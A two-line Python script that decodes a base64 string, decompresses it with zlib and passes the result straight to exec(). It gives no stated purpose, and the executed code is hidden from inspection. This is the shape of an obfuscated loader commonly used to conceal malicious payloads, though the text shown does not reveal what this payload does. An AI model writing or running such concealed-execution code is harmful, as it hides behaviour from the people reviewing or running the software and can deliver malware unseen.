import base64, zlib
exec(zlib.decompress(base64.b64decode(b"eNo1jDEKwzAMRXefwmiSwChJU+jUXqW0tgZTbAVLS25fQ+mfHu/Br+3Q4dE0f8STWrD7jzkPebk8s/Yu2at2RLisO6+8bTvfIF3niIIa22kuDaGW+IiLt2PhChRmkF5QD+kIf51gvIF4nhck+gJtbic7")))
